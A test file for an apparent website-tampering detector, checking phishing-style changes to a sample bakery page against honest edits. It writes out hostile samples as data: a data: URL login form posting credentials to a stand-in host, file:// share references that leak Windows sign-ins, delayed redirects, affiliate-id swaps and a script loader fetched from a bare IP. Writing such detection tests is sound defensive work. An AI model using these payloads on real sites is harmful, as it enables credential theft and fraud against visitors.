/**
 * The rules of round 13 (tuned on fresh11 after its first look), on the
 * hand-written bakery page: each with the change it catches and the honest
 * change beside it that it leaves alone.
 */
import { describe, expect, it } from "@effect/vitest"
import { cardContacts } from "../../src/internal/extract.js"
import { placesOfUrl, referralsOf } from "../../src/internal/linkIds.js"
import { navigatesOnAction } from "../../src/internal/script.js"
import { serverErrorsOf } from "../../src/builtin/visibleText.js"
import { baselineOf, breaches, checks, page, samples, verdictOf } from "../support/pages.js"

describe("round 13: where links and forms send visitors", () => {
  it("a link that opens a page written inside itself (data:text/html) alerts; a data: image or a calendar file does not", () => {
    const login = `<form action="https://collect.example.top/l"><input name="u"><input type="password" name="p"></form>`
    const b64 = Buffer.from(`<html><body>${login}</body></html>`).toString("base64")
    expect(breaches(verdictOf(page({ seed: 4, body: `<p><a href="data:text/html;base64,${b64}">My account</a></p>` })))).toContain("destinations/link_data_page")
    expect(breaches(verdictOf(page({ seed: 4, body: `<p><a href="data:text/html,%3Cscript%3Ealert(1)%3C/script%3E">Log in</a></p>` })))).toContain("destinations/link_data_page")
    expect(verdictOf(page({ seed: 4, body: `<p><a href="data:text/calendar;charset=utf-8,BEGIN%3AVCALENDAR" download="open-day.ics">Add the open day to your calendar</a></p>` })).alert).toBe(false)
  })

  it("an image, a style or a frame on another machine's file share alerts (Windows signs in to fetch it)", () => {
    for (const body of [
      `<img src="file://203.0.113.9/share/pixel.png" width="1" height="1" alt="">`,
      `<div style="background:url('file://files.example.net/pub/bg.jpg')">Offers</div>`,
      `<iframe src="file://203.0.113.9/c$/x.html" width="1" height="1"></iframe>`
    ]) expect(breaches(verdictOf(page({ seed: 4, body }))), body).toContain("destinations/link_local_handler")
    expect(verdictOf(page({ seed: 4, body: `<img src="/static/oven.jpg" alt="Our oven">` })).alert).toBe(false)
  })

  it("an OpenSearch description from another domain alerts; the site's own does not", () => {
    expect(breaches(verdictOf(page({ seed: 4, head: `<link rel="search" type="application/opensearchdescription+xml" title="Harbour Bakery" href="https://find.example-search.top/os.xml">` })))).toContain("destinations/search_engine_new_domain")
    expect(verdictOf(page({ seed: 4, head: `<link rel="search" type="application/opensearchdescription+xml" title="Harbour Bakery" href="/opensearch.xml">` })).alert).toBe(false)
  })

  it("a Sign in with Google element posts the visitor's identity where its data-login_uri says", () => {
    const gsi = (uri: string) => `<script src="https://accounts.google.com/gsi/client" async></script><div id="g_id_onload" data-client_id="1-abc.apps.googleusercontent.com" data-login_uri="${uri}"></div>`
    expect(breaches(verdictOf(page({ seed: 4, body: gsi("https://id-collect.example.xyz/cb") })))).toContain("destinations/form_new_domain")
    expect(verdictOf(page({ seed: 4, body: gsi("/account/google") })).alert).toBe(false)
  })

  it("a tracking form that posts to a public body's site (a national post on a government domain) does not alert", () => {
    expect(verdictOf(page({ seed: 4, body: `<form action="https://www.indiapost.gov.in/track" method="get"><input name="consignment"><button>Track</button></form>` })).alert).toBe(false)
    expect(breaches(verdictOf(page({ seed: 4, body: `<form action="https://track-parcel.example.top/t" method="get"><input name="consignment"><button>Track</button></form>` })))).toContain("destinations/form_new_domain")
  })

  it("a button whose script moves only the visitor who clicks it leads where a link would; a redirect on load still alerts", () => {
    const exit = `(function(){var u="https://www.example-weather.org/";function go(){location.replace(u);window.open("https://www.google.com/")}var b=document.getElementById("leave");if(b)b.addEventListener("click",function(e){e.preventDefault();go()})})();`
    expect(navigatesOnAction(exit)).toBe(true)
    expect(verdictOf(page({ seed: 4, body: `<p><a id="leave" href="https://www.google.com/">Leave this site quickly</a></p><script>${exit}</script>` })).alert).toBe(false)
    // (a click anywhere on the page is no button's: a pop-under)
    expect(navigatesOnAction(`document.addEventListener("click",function(){window.open("https://ads.example.top/x")})`)).toBe(false)
    expect(navigatesOnAction(`window.location.href="https://promo.example.top/";`)).toBe(false)
    // (every link's click, and a tab turned into something else a moment after the click, are no button's either)
    expect(navigatesOnAction(`[].forEach.call(document.links,function(a){a.addEventListener("click",function(){setTimeout(function(){location.href="https://login.example.top/"},900)})})`)).toBe(false)
    expect(navigatesOnAction(`var b=document.getElementById("go");b.addEventListener("click",function(){setTimeout(function(){location.href="https://login.example.top/"},900)})`)).toBe(false)
    expect(breaches(verdictOf(page({ seed: 4, body: `<script>setTimeout(function(){location.replace("https://promo.example.top/win")},100)</script>` })))).toContain("destinations/redirect")
  })
})

describe("round 13: identifiers inside links", () => {
  it("referral ids are read from links (not a blog's tag, not analytics)", () => {
    const refs = (url: string) => [{ kind: "link" as const, url, id: "", label: "", hidden: false, at: 0, text: "" }]
    expect(referralsOf(refs("https://www.amazon.co.uk/dp/B0X?tag=bakery-21")).map((r) => r.id)).toEqual(["amazon.co.uk|tag=bakery-21"])
    expect(referralsOf(refs("https://www.harbourbakery.co.uk/?tag=sourdough"))).toEqual([])
    expect(referralsOf(refs("https://www.harbourbakery.co.uk/?utm_source=news&utm_medium=email"))).toEqual([])
  })

  it("the site's own links given a referral id they never carried alert; a shop link's id swapped alerts", () => {
    const shop = (tag: string) => `<p>Our flour: <a href="https://www.amazon.co.uk/dp/B00FLOUR1?tag=${tag}">stoneground wholemeal</a></p>`
    const base = baselineOf(samples((seed) => page({ seed, body: shop("harbourbake-21") })))
    expect(breaches(verdictOf(page({ seed: 4, body: shop("xq7cash-21") }), base))).toContain("identifiers/referral_changed")
    expect(verdictOf(page({ seed: 4, body: shop("harbourbake-21") }), base).alert).toBe(false)
    const v = verdictOf(page({ seed: 4 }).replace(/href="\/([a-z-]+)"/g, 'href="/$1?aff=x81kd"'))
    expect(breaches(v)).toContain("identifiers/referral_added")
    // (the site's own associate id, named after it, added to its shop links is the site's)
    const plain = baselineOf(samples((seed) => page({ seed, body: `<p>Our flour: <a href="https://www.amazon.co.uk/dp/B00FLOUR1">stoneground wholemeal</a></p>` })))
    expect(verdictOf(page({ seed: 4, body: shop("harbourbake-21") }), plain).alert).toBe(false)
    expect(breaches(verdictOf(page({ seed: 4, body: shop("xq7cash-21") }), plain))).toContain("identifiers/referral_added")
    // (a new article's shop link brings its own id)
    expect(verdictOf(page({ seed: 4, body: `<p>We bake with <a href="https://www.amazon.co.uk/dp/B00RYE?tag=harbourbake-21">this rye</a>.</p>` })).alert).toBe(false)
  })

  it("the page's map now showing another place alerts; the same place written another way does not", () => {
    expect(placesOfUrl("https://www.google.com/maps/place/Harbour+Bakery/@54.4858,-0.6149,17z")).toEqual(["geo:54.49,-0.61"])
    const map = (at: string) => `<p><a href="https://www.google.com/maps/place/Harbour+Bakery/@${at},17z">Find us</a></p>`
    const base = baselineOf(samples((seed) => page({ seed, body: map("54.4858,-0.6149") })))
    expect(breaches(verdictOf(page({ seed: 4, body: map("51.5007,-0.1246") }), base))).toContain("identifiers/place_changed")
    expect(verdictOf(page({ seed: 4, body: `<p><a href="https://maps.google.com/?q=54.4861,-0.6152">Find us</a></p>` }), base).alert).toBe(false)
  })

  it("a contact card with a number the page does not give alerts; the page's own card does not", () => {
    const card = (tel: string, mail: string) => `BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Harbour Bakery\r\nTEL;TYPE=work:${tel}\r\nEMAIL:${mail}\r\nEND:VCARD`
    expect(cardContacts(card("+44 1947 600123", "hello@harbourbakery.co.uk"))).toEqual(["tel:+44 1947 600123", "mailto:hello@harbourbakery.co.uk"])
    const link = (c: string) => `<p><a href="data:text/vcard;charset=utf-8,${encodeURIComponent(c)}" download="harbour.vcf">Save our number</a></p>`
    const base = baselineOf(samples((seed) => page({ seed, body: `<p>Call 01947 600123 or write to hello@harbourbakery.co.uk</p>` })))
    expect(breaches(verdictOf(page({ seed: 4, body: `<p>Call 01947 600123 or write to hello@harbourbakery.co.uk</p>${link(card("+44 7700 900771", "harbour.orders@mail.example"))}` }), base))).toContain("identifiers/contact_card_other")
    expect(verdictOf(page({ seed: 4, body: `<p>Call 01947 600123 or write to hello@harbourbakery.co.uk</p>${link(card("+44 1947 600123", "hello@harbourbakery.co.uk"))}` }), base).alert).toBe(false)
    expect(breaches(verdictOf(page({ seed: 4, body: `<p><a href="https://cards.example.top/harbour.vcf">Save our number</a></p>` })))).toContain("destinations/contact_card_new_domain")
  })
})

describe("round 13: what the visitor reads", () => {
  it("server errors printed into the page alert; notices of old code are a sign", () => {
    expect(serverErrorsOf("Warning : include(/srv/www/x/.cache.ico): Failed to open stream in /srv/www/x/index.php on line 3")).toEqual(["Warning /srv/www/x/index.php"])
    expect(serverErrorsOf("Fatal error : Uncaught Error in C:\\inetpub\\site\\lib(12) : eval()'d code on line 1")).toHaveLength(1)
    expect(serverErrorsOf("Our warning: the oven is hot in the morning, on line one of the menu")).toEqual([])
    expect(breaches(verdictOf(page({ seed: 4, top: `<br><b>Warning</b>: include(/var/www/hb/wp-content/.x1.ico): Failed to open stream in <b>/var/www/hb/index.php</b> on line <b>2</b><br>` })))).toContain("visible_text/server_error")
    expect(checks(verdictOf(page({ seed: 4, top: `<b>Deprecated</b>: Function each() is deprecated in <b>/var/www/hb/lib.php</b> on line <b>9</b>` })))).toContain("visible_text/server_error")
  })
})

describe("round 13: identifiers written in pieces, new payment kinds, loaders that copy the page's own", () => {
  it("a number broken up by hidden characters reads as shown: the swap is a change, not a removal", () => {
    const base = baselineOf(samples((seed) => page({ seed, body: `<p>Orders: 0113 496 0321</p>` })))
    const decoy = `<p>Orders: 0<i hidden>58</i>11<span style="display:none">x</span>3 4<span style="font-size:0">null</span>96 0777</p>`
    expect(breaches(verdictOf(page({ seed: 4, body: decoy }), base))).toContain("identifiers/phone_changed")
  })

  it("a Lightning address or LNURL is a wallet; an instant-payment alias is a payment handle", () => {
    const lnurl = "LNURL1DP68GURN8GHJ7UM9WFMXJCM99E3K7MF0V9CXJ0M385EKVCENXC6R2C35XVUKXEFCV5MKVV34X5EKZD3EV56NYD3HXQURZEPEXEJXXEPNXSCRVWFNV9NXZCN9XQ6XYEFHVGCXXCMYXYMNSERXFQ5FNS"
    expect(breaches(verdictOf(page({ seed: 4, body: `<p>⚡ Tips over Lightning: <code>${lnurl}</code></p>` })))).toContain("identifiers/wallet_appeared")
    expect(breaches(verdictOf(page({ seed: 4, body: `<p>⚡ Tips: bakerytips@getalby.com</p>` })))).toContain("identifiers/wallet_appeared")
    expect(breaches(verdictOf(page({ seed: 4, body: `<p>Card machine down today: pay by Bizum to 612 345 678 and show us the receipt.</p>` })))).toContain("identifiers/pay_appeared")
  })

  it("a loader written like the page's own document.write tag, once more than the page has it, is judged by where it loads from", () => {
    const tag = (src: string) => `<script>document.write('<s'+'cript src="${src}"></s'+'cript>');</script>`
    const base = baselineOf(samples((seed) => page({ seed, body: tag("https://www.harbourbakery.co.uk/static/menu.js") })))
    expect(verdictOf(page({ seed: 4, body: tag("https://www.harbourbakery.co.uk/static/menu.js") }), base).alert).toBe(false)
    expect(breaches(verdictOf(page({ seed: 4, top: tag("http://203.0.113.77:8080/jquery.min.php"), body: tag("https://www.harbourbakery.co.uk/static/menu.js") }), base))).toContain("destinations/inline_script_new_domain")
  })
})
